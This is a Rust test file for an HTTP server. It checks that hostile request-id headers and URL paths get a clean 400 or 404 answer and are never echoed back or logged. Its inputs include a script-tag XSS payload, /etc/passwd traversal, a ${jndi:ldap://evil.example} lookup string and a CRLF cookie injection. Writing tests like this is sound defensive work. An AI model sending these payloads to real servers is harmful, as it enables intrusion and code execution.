//! What a stranger may send: each gets a clean answer, and nothing of it where it could do harm.

use crate::raw::exchange;

fn raw(path: &[u8], header: &[u8]) -> Vec<u8> {
    let mut bytes = b"GET ".to_vec();
    bytes.extend_from_slice(path);
    bytes.extend_from_slice(b" HTTP/1.1\r\nhost: test\r\nconnection: close\r\n");
    bytes.extend_from_slice(header);
    bytes.extend_from_slice(b"\r\n\r\n");
    bytes
}

/// Whether an id is one of ours: a UUID in lower case.
fn is_made(id: &str) -> bool {
    id.len() == 36 && id.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f' | b'-'))
}

#[test]
fn request_ids_that_could_do_harm_are_not_repeated() {
    let (server, capture) = super::serve();
    let long = format!("x-request-id: {}", "x".repeat(129));
    let longer = format!("x-request-id: {}", "x".repeat(60_000));
    for header in [
        &b"x-request-id: <script>alert(1)</script>"[..],
        b"x-request-id: a b",
        b"x-request-id: a\tb",
        b"x-request-id: \x80\xff",
        b"x-request-id: caf\xc3\xa9",
        b"x-request-id: a\"b",
        b"x-request-id: ../../etc/passwd",
        b"x-request-id: ${jndi:ldap://evil.example}",
        b"x-request-id:",
        b"x-request-id: \x1b[31m",
        long.as_bytes(),
        longer.as_bytes(),
        b"traceparent: 00-00000000000000000000000000000000-0000000000000000-00",
        b"traceparent: \xff\xfe",
        b"user-agent: \xff\xfe\r\norigin: \xff\r\nreferer: \xff",
    ] {
        let shown = String::from_utf8_lossy(&header[..header.len().min(80)]).into_owned();
        let Some(answer) = exchange(&server, &raw(b"/nowhere", header)) else { panic!("{shown}: no answer") };
        if answer.status == 400 {
            // No header at all, says the dispatcher.
            assert!(answer.body.is_empty() && capture.take().is_empty(), "{shown}");
            continue;
        }
        let error = answer.error(404, "ROUTE_NOT_FOUND");
        assert!(is_made(error["request_id"].as_str().unwrap()), "{shown}: {error}");
        assert!(error.get("trace_id").is_none(), "{shown}");
        let seen = capture.one();
        assert_eq!(seen.request_id.as_deref(), error["request_id"].as_str(), "{shown}");
    }
    let answer = exchange(&server, &raw(b"/nowhere", b"x-request-id: harmless-1.2_3~4:5")).unwrap();
    assert_eq!(answer.error(404, "ROUTE_NOT_FOUND")["request_id"], "harmless-1.2_3~4:5");
}

#[test]
fn paths_that_could_do_harm_are_nothing_that_is_here() {
    let (server, capture) = super::serve();
    let long = "/x".repeat(20_000);
    for path in [
        "/%0d%0aset-cookie:%20stolen=1",
        "/%00",
        "/%ff%fe",
        "/%",
        "/%zz",
        "/%e2%80%ae",
        "/<script>alert(1)</script>",
        "//evil.example/%2e%2e",
        "/../../etc/passwd",
        "/path/%0d%0ax",
        "/path/%ff",
        &long,
    ] {
        let Some(answer) = exchange(&server, &raw(path.as_bytes(), b"accept: */*")) else {
            panic!("{path}: no answer")
        };
        if answer.status == 400 {
            assert!(answer.body.is_empty() && capture.take().is_empty(), "{path}");
            continue;
        }
        assert_eq!(answer.status, 404, "{path}: {}", answer.text());
        answer.error(404, answer.header("x-error-code").unwrap());
        assert_eq!(answer.header("set-cookie"), None, "{path}");
        assert!(!answer.text().contains("<script>"), "{path}");
        capture.one();
    }
}
